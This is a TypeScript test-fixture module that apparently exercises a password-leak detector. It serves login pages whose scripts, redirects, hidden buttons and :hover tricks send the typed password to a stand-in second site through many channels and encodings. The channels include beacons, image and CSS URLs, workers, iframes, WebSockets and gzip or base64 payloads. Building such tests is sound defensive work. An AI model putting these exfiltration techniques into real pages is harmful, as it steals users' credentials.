import { loginForm, type Places, type Site, WELCOME } from './serve.js';

/** A page that would have a password sent to another site. */
export interface Leak {
  readonly name: string;
  readonly own: (places: Places) => Site;
  readonly how: 'form' | 'redirect' | 'script';
}

const page = (html: string, more: Site = {}): Site => ({ '/': html, 'POST /login': WELCOME, ...more });
const button = '<button id="send">Sign in</button>';

/** The ways of a login's own submission. Nothing comes of it where it is stopped. */
export const SUBMISSIONS: readonly Leak[] = [
  {
    name: 'a listener for what is typed changes where the form posts to',
    own: ({ other }) =>
      page(`${loginForm()}<script>password.oninput = () => { document.forms[0].action = '${other}/take'; };</script>`),
    how: 'form',
  },
  {
    name: 'a listener for the submission changes where the form posts to',
    own: ({ other }) =>
      page(
        `${loginForm()}<script>document.forms[0].onsubmit = () => { document.forms[0].action = '${other}/take'; };</script>`,
      ),
    how: 'form',
  },
  {
    name: 'a listener makes a window of its own the target of the form, at another site',
    own: ({ other }) =>
      page(
        `${loginForm(button, 'target="own"')}<script>document.forms[0].onsubmit = () => { document.forms[0].action = '${other}/take'; };</script>`,
      ),
    how: 'form',
  },
  {
    name: 'the server sends the form on to another site, body and all (307)',
    own: ({ other }) => page(loginForm(), { 'POST /login': { status: 307, location: `${other}/take` } }),
    how: 'redirect',
  },
  {
    name: 'a script sends what the form holds to another site, and nothing to its own',
    own: ({ other }) =>
      page(`${loginForm()}<p id="says"></p><script>document.forms[0].onsubmit = (event) => {
        event.preventDefault();
        fetch('${other}/take', { method: 'POST', body: JSON.stringify({ password: password.value }) })
          .catch(() => { says.textContent = 'Something went wrong. Please check your connection.'; });
      };</script>`),
    how: 'script',
  },
];

/** Pages without any script whose form goes elsewhere by the button that is pressed. */
export const BUTTONS: readonly Leak[] = [
  {
    name: 'a hidden button before all others sends to another site, and Enter takes it',
    own: ({ other }) => page(loginForm(`<button formaction="${other}/take" style="display:none"></button>`)),
    how: 'form',
  },
  {
    name: 'a hidden button elsewhere in the document belongs to the form, and Enter takes it',
    own: ({ other }) =>
      page(`<button form="login" formaction="${other}/take" hidden></button>${loginForm(' ', 'id="login"')}`),
    how: 'form',
  },
];

/** Pages whose honest button is there, but not where it is pressed. They go by it, or not at all. */
export const MOVED: readonly Omit<Leak, 'how'>[] = [
  {
    name: 'another button is under the pointer as soon as that is there (:hover)',
    own: ({ other }) =>
      page(`<style>.both { position: relative; height: 40px } .both button { position: absolute; width: 100px; height: 40px }
        .both button + button { visibility: hidden } .both:hover button { visibility: hidden } .both:hover button + button { visibility: visible }</style>
        ${loginForm(`<div class="both"><button id="send">Sign in</button><button formaction="${other}/take">Sign in</button></div>`)}`),
  },
];

/** All that a script can send a copy with, each in a writing of its own. The login itself is honest. */
export const copies = ({ other }: Places): string => `<script>
  const to = (n) => '${other}/take/' + n;
  const b64 = (text) => btoa(text);
  const hex = (text) => [...text].map((one) => one.charCodeAt(0).toString(16)).join('');
  const quietly = (work) => { try { const done = work(); if (done && done.catch) done.catch(() => {}); } catch {} };
  const packed = async (text, format) => new Response(
    new Blob(['{"events":"', text, '"}']).stream().pipeThrough(new CompressionStream(format))).arrayBuffer();
  let last = '';
  password.addEventListener('input', () => {
    const value = password.value;
    if (value === last || value.length < 12) return;
    last = value;
    const post = (n, body, headers) => quietly(() => fetch(to(n), { method: 'POST', mode: 'no-cors', body, headers }));
    post('raw', value);
    post('json', JSON.stringify({ deep: [{ value }] }));
    post('unicode', '"' + [...value].map((one) => '\\\\u00' + one.charCodeAt(0).toString(16).padStart(2, '0')).join('') + '"');
    post('base64', 'x=' + b64('session:' + value + ':1'));
    post('base64-of-form', b64('a=1&password=' + encodeURIComponent(value)));
    post('hex', hex(value));
    post('twice', 'p=' + encodeURIComponent(encodeURIComponent(value)));
    post('every letter escaped', 'p=' + [...value].map((one) => '%' + one.charCodeAt(0).toString(16)).join(''));
    const data = new FormData(); data.append('password', value); post('multipart', data);
    const file = new FormData(); file.append('file', new Blob([value]), 'replay.bin'); post('file', file);
    post('buffer', new Uint16Array([...value].map((one) => one.charCodeAt(0))));
    for (const format of ['gzip', 'deflate', 'deflate-raw']) packed(value, format).then((bytes) => post(format, bytes));
    packed(value, 'gzip').then((bytes) => post('gzip in base64', b64(String.fromCharCode(...new Uint8Array(bytes)))));
    quietly(() => fetch(to('header'), { headers: { 'x-value': value } }));
    quietly(() => fetch(to('basic'), { headers: { authorization: 'Basic ' + b64('user:' + value) } }));
    quietly(() => fetch(to('keepalive') + '?p=' + encodeURIComponent(value), { mode: 'no-cors', keepalive: true }));
    quietly(() => { const asking = new XMLHttpRequest(); asking.open('POST', to('xhr')); asking.send(value); });
    quietly(() => navigator.sendBeacon(to('beacon'), value));
    quietly(() => { new Image().src = to('img') + '?' + encodeURIComponent(value); });
    quietly(() => { new Image().src = to('path') + '/' + encodeURIComponent(value) + '/x.gif'; });
    quietly(() => { new EventSource(to('events') + '?p=' + encodeURIComponent(value)); });
    quietly(() => {
      const style = document.createElement('style');
      style.textContent = 'body { background: url("' + to('css') + '?' + encodeURIComponent(value) + '") }';
      document.head.append(style);
    });
    const work = 'fetch("' + to('worker') + '", { method: "POST", mode: "no-cors", body: ' + JSON.stringify(value) + ' })';
    const code = URL.createObjectURL(new Blob([work]));
    quietly(() => { globalThis.kept = new Worker(code); });
    quietly(() => { globalThis.shared = new SharedWorker(code); });
    quietly(() => window.open(to('pop-up') + '?p=' + encodeURIComponent(value), '_blank', 'width=100,height=100,noopener'));
    quietly(() => {
      const frame = document.createElement('iframe');
      frame.src = to('frame') + '?p=' + encodeURIComponent(value);
      document.body.append(frame);
    });
    quietly(() => {
      const frame = document.createElement('iframe');
      frame.srcdoc = '<script>fetch("' + to('srcdoc') + '", { method: "POST", mode: "no-cors", body: ' + JSON.stringify(value) + ' })<' + '/script>';
      document.body.append(frame);
    });
    quietly(() => {
      const form = document.createElement('form');
      Object.assign(form, { method: 'post', action: to('hidden-form'), target: 'into' });
      form.innerHTML = '<input name="p">';
      form.elements[0].value = value;
      const frame = document.createElement('iframe');
      frame.name = 'into';
      document.body.append(frame, form);
      form.submit();
    });
    quietly(() => { new WebSocket('${other.replace('http', 'ws')}/take/socket'); });
    addEventListener('pagehide', () => navigator.sendBeacon(to('pagehide'), value));
  });
</script>`;
